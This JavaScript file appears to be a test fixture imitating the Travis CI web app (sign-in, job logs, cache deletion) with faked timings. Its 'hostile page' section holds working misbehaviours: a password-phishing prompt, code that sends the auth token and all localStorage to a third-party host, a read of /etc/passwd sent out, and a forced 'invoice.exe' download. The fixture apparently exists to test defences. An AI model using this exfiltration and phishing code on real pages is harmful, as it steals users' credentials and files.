// The single-page application: sign-in, the repository's pages, and the cache list with its icons.
"use strict";

(function () {
  const { config, fetch, spend, inRunLoop } = window.vendored;
  const START_MS = { first: 1690, cached: 1000 };
  const CLICK_MS = 9;
  const CLICK_IN_RUN_LOOP_MS = 2;
  const FIRST_RENDER_MS_A_ROW = { visible: 2.3, hidden: 1.9 };
  const REMOVAL_MS_A_ROW = { visible: 0.03, hidden: 0.01 };
  const FLASH_MS = 15000;
  const PROVIDERS = ["github", "gitlab", "bitbucket", "assembla"];
  const ICON_CLASS = config.changedPage === "icon-class" ? "remove-cache" : "delete-cache-icon";
  const HAS_LIST_MARKUP = config.changedPage !== "list-markup";
  const QUESTION = config.changedPage === "confirm-text" ? "Delete this cache permanently?" : "Are you sure?";
  const TRASH = '<svg width="14" height="16" viewBox="0 0 14 16" aria-hidden="true"><path d="M1 4h12M5 4V2h4v2M3 4l1 10h6l1-10"/></svg>';

  // ---- who is signed in ----------------------------------------------------------------------------------------
  function signedInAccount() {
    try {
      const accounts = JSON.parse(localStorage.getItem("travis.auth.accounts")) ?? [];
      const id = localStorage.getItem("travis.auth.activeAccountId");
      return accounts.find((account) => String(account.id) === String(id)) ?? null;
    } catch { return null; }
  }
  const account = signedInAccount();
  const token = account?.web_token ?? localStorage.getItem("travis.webToken");

  async function call(path, method = "GET") {
    const headers = { "Travis-API-Version": "3" };
    if (token) headers.Authorization = `token ${token}`;
    const response = await fetch(config.apiEndpoint + path, { method, headers });
    if (!response.ok) throw Object.assign(new Error(`status ${response.status}`), { status: response.status });
    return response;
  }
  const callForJson = async (path, method) => JSON.parse(await (await call(path, method)).text());

  // ---- the frame -----------------------------------------------------------------------------------------------
  function element(tag, classes = "", ...children) {
    const made = document.createElement(tag);
    if (classes) made.className = classes;
    made.append(...children);
    return made;
  }
  function link(text, href) {
    const made = element("a", "", text);
    made.href = href;
    return made;
  }
  const flash = element("ul", "flash");
  const main = element("main", "wrapper");
  const header = element("header", "top", element("div", "top-inner", link("Travis CI", "/"),
    account ? element("span", "profile", account.login) : link("Sign in", "/signin")));
  const loading = () => element("div", "loading-indicator", element("i"), element("i"), element("i"));

  function flashError(text) {
    if ([...flash.querySelectorAll(".message")].some((message) => message.textContent === text)) return;
    const item = element("li", "error", element("p", "message", text));
    flash.append(item);
    setTimeout(() => item.remove(), FLASH_MS);
  }

  // ---- repository pages ----------------------------------------------------------------------------------------
  function repositoryFrame(repo, content, active) {
    const tabs = element("ul", "tabs");
    for (const name of ["Current", "Branches", "Build History", "Pull Requests", "Caches"]) {
      const tab = element("a", name === active ? "active" : "", name);
      if (name === "Caches") tab.id = "tab_caches";
      if (name === "Caches" && active !== name) tab.href = `${location.pathname.replace(/\/caches$/, "")}/caches`;
      tabs.append(element("li", "", tab));
    }
    const [owner, name] = repo.slug.split("/");
    main.replaceChildren(
      element("div", "repo-header", element("span", "owner", owner), element("span", "slash", "/"), element("h1", "", name),
        element("span", "badge", "build | passing")),
      tabs, element("div", "tabbody", content));
  }

  function missing(slug) {
    main.replaceChildren(element("div", "missing-notice", element("h2", "page-title", "We couldn't display the repository"),
      element("p", "", slug), element("p", "helptext", "It may not exist, or you may not have access to it.")));
  }

  function errorText(status) {
    return element("p", "error-text", status === 403
      ? "Your permissions are insufficient to access this content."
      : "There was an error while loading data.");
  }

  async function repositoryPage(segments) {
    const provider = PROVIDERS.includes(segments[0]) ? segments.shift() : "github";
    const slug = segments.slice(0, 2).join("/");
    const [page, id] = segments.slice(2);
    main.replaceChildren(loading());

    // A full sign-in loads the user's permissions in parallel. If they arrive after the list, rendering fails
    // (docs/TRAVIS.md section 2).
    let permissions = account ? null : {};
    if (account) {
      try { await call("/user"); } catch (error) {
        if (error.status === 403) return location.replace("/signin");
      }
      callForJson("/users/permissions").then((payload) => { permissions = payload; }, () => {});
    } else {
      call("/broadcasts").catch(() => {});
    }
    let repo;
    try { repo = await callForJson(`/repo/${provider}/${encodeURIComponent(slug)}`); } catch { return missing(slug); }
    call(`/owner/${provider}/${slug.split("/")[0]}`).catch(() => {});

    if (page === "jobs") return jobPage(repo, id);
    if (page === "caches" && repo["@permissions"].cache_view) {
      let caches;
      try { ({ caches } = await callForJson(`/repo/${repo.id}/caches`)); } catch (error) {
        return repositoryFrame(repo, errorText(error.status), null);
      }
      if (permissions === null) throw new TypeError("Cannot read properties of null (reading 'admin')");
      return cachePage(repo, caches);
    }
    if (page === "caches") history.replaceState(null, "", location.pathname.replace(/\/caches\/?$/, ""));
    return repositoryFrame(repo, element("p", "helptext", "No builds for this repository"), "Current");
  }

  async function jobPage(repo, id) {
    const content = element("div", "job");
    try {
      const job = await callForJson(`/job/${id}`);
      const log = await (await call(`/job/${id}/log.txt`)).text();
      content.append(element("h2", "", `Job #${job.number} ${job.state}`), element("pre", "job-log", log));
      if (account) {
        const restart = element("button", "button-circle-trigger", "Restart job");
        restart.addEventListener("click", () => call(`/job/${id}/restart`, "POST")
          .then(() => jobPage(repo, id), () => flashError("The job could not be restarted")));
        content.prepend(restart);
      }
    } catch (error) { content.append(errorText(error.status)); }
    repositoryFrame(repo, content, "Current");
  }

  // ---- the cache list ------------------------------------------------------------------------------------------
  function rowsOf(caches) {
    const rows = new Map();
    for (const { branch, size, last_modified: date } of caches) {
      const row = rows.get(branch) ?? { branch, size: 0, date: "", deleting: false };
      row.size += size;
      if (date > row.date) row.date = date;
      rows.set(branch, row);
    }
    return [...rows.values()];
  }

  function ago(date) {
    const seconds = (Date.now() - Date.parse(date)) / 1000;
    const units = [["year", 31536000], ["month", 2592000], ["day", 86400], ["hour", 3600], ["minute", 60]];
    const [unit, length] = units.find(([, unitLength]) => seconds >= unitLength) ?? ["minute", 60];
    const count = Math.floor(seconds / length);
    if (count < 1) return "less than a minute ago";
    return count === 1 ? `about ${unit === "hour" ? "an" : "a"} ${unit} ago` : `${count} ${unit}s ago`;
  }

  function cachePage(repo, caches) {
    const content = element("div", "caches");
    let rows = config.changedPage === "empty-lists" ? [] : rowsOf(caches);
    const kinds = [
      { kind: "push", list: "push-caches", title: "Push caches", rows: () => rows.filter((row) => !/PR./.test(row.branch)) },
      { kind: "pull_request", list: "pull-request-caches", title: "Pull Request caches", rows: () => rows.filter((row) => /PR./.test(row.branch)) },
    ];

    function cell(kind, text) {
      const label = element("span", "label-align", `\n        ${text}\n      `);
      return element("div", `row-item row-${kind}`, "\n      ", element("i", `icon icon-${kind}`), "\n      ", label, "\n    ");
    }

    // As on the real page, a row keeps its element, and each rendering moves all elements into new lists.
    function item(row, kind) {
      if (row.item) return row.item;
      const icon = element("a", `pointer ${ICON_CLASS}${row.deleting ? " deleting" : ""}`);
      icon.title = "Delete the cache";
      icon.innerHTML = TRASH;
      icon.addEventListener("click", () => onIcon(row));
      row.icon = icon;
      row.item = element("li", HAS_LIST_MARKUP ? `cache-item ${kind}` : "row", cell("branch", row.branch),
        cell("calendar", ago(row.date)), cell("size", `${(row.size / 1048576).toFixed(2)}MB`), element("div", "row-item", icon));
      return row.item;
    }

    // Renders everything again; `msARow` is the time that the real page takes for a row.
    function render(msARow) {
      const start = performance.now();
      content.replaceChildren();
      if (rows.length) content.append(deleteAllButton);
      else content.append(element("p", "helptext no-caches", "No caches have been created yet, learn how to speed up your builds with caching."));
      const lists = [];
      for (const { kind, list, title, rows: rowsOfKind } of kinds) {
        const items = rowsOfKind().map((row) => item(row, kind));
        if (!items.length) continue;
        lists.push(element("ul", HAS_LIST_MARKUP ? `caches-list ${list}` : "rows", ...items));
        content.append(element("section", "caches-section", element("h2", "small-title", title), lists.at(-1)));
      }
      if (!content.isConnected) repositoryFrame(repo, content, "Caches");
      const isHidden = lists.every((list) => getComputedStyle(list).display === "none");
      void content.offsetHeight;
      spend(rows.length * (isHidden ? msARow.hidden : msARow.visible), start);
    }

    function isSure() {
      return config.skipConfirmations || window.confirm(QUESTION);
    }

    async function onIcon(row) {
      if (row.deleting || !isSure()) return;
      const start = performance.now();
      row.deleting = true;
      row.icon.classList.add("deleting");
      const answered = call(`/repo/${repo.id}/caches?branch=${row.branch}`, "DELETE");
      spend(inRunLoop() ? CLICK_IN_RUN_LOOP_MS : CLICK_MS, start);
      try {
        await answered;
      } catch {
        row.deleting = false;
        row.icon.classList.remove("deleting");
        flashError("Could not delete the cache");
        return;
      }
      rows = rows.filter((other) => other !== row);
      // Without costs, only the changed part is rendered.
      if (config.costs || row.item.parentElement.children.length === 1) render(REMOVAL_MS_A_ROW);
      else row.item.remove();
    }

    let isDeletingAll = false;
    async function onDeleteAll() {
      if (isDeletingAll || !isSure()) return;
      isDeletingAll = true;
      deleteAllButton.classList.add("deleting");
      try {
        await call(`/repo/${repo.id}/caches`, "DELETE");
        rows = [];
        render(REMOVAL_MS_A_ROW);
      } catch { flashError("Could not delete the caches"); }
      isDeletingAll = false;
      deleteAllButton.classList.remove("deleting");
    }

    const deleteAllButton = element("button", "delete-cache-button", "Delete all repository caches");
    deleteAllButton.title = "Delete all repository caches";
    deleteAllButton.type = "button";
    deleteAllButton.addEventListener("click", onDeleteAll);

    render(FIRST_RENDER_MS_A_ROW);
    for (const _ of rows) {
      console.error('Error: <svg> attribute width: Expected length, "auto".');
      console.error('Error: <svg> attribute height: Expected length, "auto".');
    }
    if (config.changedPage === "hang-script") setTimeout(() => { for (;;); }, 50);
  }

  // ---- signing in ----------------------------------------------------------------------------------------------
  function signInPage() {
    const button = element("button", "signin-button", "Sign in with GitHub");
    button.addEventListener("click", () => { location.href = `${config.oauthEndpoint}?client_id=standin`; });
    main.replaceChildren(element("div", "signin", element("h1", "", "Sign in to Travis CI"), button));
  }

  async function signInCallback() {
    const code = new URLSearchParams(location.search).get("code");
    try {
      const response = await fetch(`${config.apiEndpoint}/auth/code/${encodeURIComponent(code)}`, {});
      if (!response.ok) throw new Error("refused");
      const { id, login, web_token } = JSON.parse(await response.text());
      localStorage.setItem("travis.auth.accounts", JSON.stringify([{ id, login, web_token }]));
      localStorage.setItem("travis.auth.activeAccountId", String(id));
      location.replace("/");
    } catch { location.replace("/signin"); }
  }

  // ---- a hostile page --------------------------------------------------------------------------------------------
  function beacon(what) {
    new Image().src = `${config.thirdParty}/collect?${what}`;
  }
  const misbehaviours = {
    dialogs() {
      window.alert("You have won a prize!");
      beacon(`prompt=${encodeURIComponent(window.prompt("Your password, please"))}`);
      beacon(`confirm=${window.confirm("Delete the whole account?")}`);
    },
    popup() { window.open(`${config.thirdParty}/popup`, "_blank"); },
    download() {
      const offered = link("", URL.createObjectURL(new Blob(["not asked for"])));
      offered.download = "invoice.exe";
      offered.click();
    },
    exfiltrate() {
      beacon(`token=${encodeURIComponent(token)}`);
      window.fetch(`${config.thirdParty}/collect`, { method: "POST", body: JSON.stringify({ ...localStorage }) }).catch(() => {});
      navigator.sendBeacon(`${config.thirdParty}/collect`, token ?? "");
    },
    files() {
      window.fetch("file:///etc/passwd").then((read) => read.text()).then((text) => beacon(`file=${encodeURIComponent(text)}`), () => {});
    },
  };

  // ---- start -----------------------------------------------------------------------------------------------------
  const [own] = performance.getEntriesByName(document.currentScript.src);
  spend(own?.transferSize ? START_MS.first : START_MS.cached);
  document.body.append(header, flash, main);
  const segments = location.pathname.split("/").filter(Boolean).map(decodeURIComponent);
  if (config.hostile) setTimeout(misbehaviours[config.hostile], 100);
  if (segments[0] === "signin") signInPage();
  else if (segments[0] === "auth") signInCallback();
  else if (segments.length >= 2) repositoryPage(segments);
  else main.replaceChildren(element("h1", "", "Build with confidence"), element("p", "helptext", account ? `Signed in as ${account.login}` : "You are not signed in"));
})();
